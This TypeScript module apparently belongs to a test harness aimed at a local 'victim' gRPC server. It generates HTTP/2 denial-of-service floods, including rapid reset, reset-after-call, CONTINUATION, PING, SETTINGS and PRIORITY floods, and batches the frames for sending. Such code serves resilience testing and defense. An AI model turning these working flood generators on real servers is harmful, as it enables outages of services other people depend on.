/** Cheap frames by the thousand, in HTTP/2: each kind costs its sender next to nothing. */
import { envelope } from "../e2e/grpc-wire.js";
import {
  END_HEADERS,
  END_STREAM,
  FrameType,
  frame,
  headersFrame,
  opening,
  resetFrame,
  uint32,
} from "./http2-frames.js";
import { VERIFY_PATH } from "./victim.js";

const HEADERS = {
  ":method": "POST",
  ":scheme": "http",
  ":path": VERIFY_PATH,
  ":authority": "x",
  "content-type": "application/grpc",
  te: "trailers",
};
const CALL = envelope(Buffer.from([0x0a, 0x01, 0x61]));

/** What comes once on a connection, and then again and again, numbered from 0. */
interface Flood {
  readonly first?: Buffer;
  readonly each: (index: number) => Buffer;
}

const idOf = (index: number) => 2 * index + 1;
export const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": { each: (index) => Buffer.concat([headersFrame(idOf(index), HEADERS), resetFrame(idOf(index))]) },
  "reset after the whole call": {
    each: (index) => {
      const id = idOf(index);
      return Buffer.concat([headersFrame(id, HEADERS), frame(FrameType.data, END_STREAM, id, CALL), resetFrame(id)]);
    },
  },
  "resets that the server is made to send": {
    each: (index) => {
      const id = idOf(index);
      return Buffer.concat([headersFrame(id, HEADERS), frame(FrameType.windowUpdate, 0, id, uint32(0))]);
    },
  },
  "calls whose answers are not read": {
    each: (index) => {
      const id = idOf(index);
      return Buffer.concat([headersFrame(id, HEADERS), frame(FrameType.data, END_STREAM, id, CALL)]);
    },
  },
  SETTINGS: { each: (index) => frame(FrameType.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(index)])) },
  PING: { each: () => frame(FrameType.ping, 0, 0, Buffer.alloc(8)) },
  "empty DATA": { first: headersFrame(1, HEADERS), each: () => frame(FrameType.data, 0, 1) },
  "empty CONTINUATION": {
    first: headersFrame(1, HEADERS, 0),
    each: () => frame(FrameType.continuation, 0, 1),
  },
  PRIORITY: { each: (index) => frame(FrameType.priority, 0, idOf(index), Buffer.alloc(5)) },
  "streams without an end": { each: (index) => headersFrame(idOf(index), HEADERS) },
  "empty header blocks": { each: (index) => frame(FrameType.headers, END_HEADERS, idOf(index)) },
};

export interface FloodWrites {
  /** What a connection begins with. */
  readonly first: Buffer;
  /** The frames, as many in each. */
  readonly batches: readonly Buffer[];
}

/** The frames from 0 to `frames`, a multiple of `framesPerWrite`. Throws when there is no such flood. */
export function floodWrites(name: string, frames: number, framesPerWrite: number): FloodWrites {
  const flood = FLOODS[name];
  if (flood === undefined) throw new Error(`no flood is named "${name}"`);
  const { first = Buffer.alloc(0), each } = flood;
  const batches = Array.from({ length: frames / framesPerWrite }, (_batch, start) =>
    Buffer.concat(Array.from({ length: framesPerWrite }, (_frame, index) => each(start * framesPerWrite + index))),
  );
  return { first: Buffer.concat([opening(), first]), batches };
}
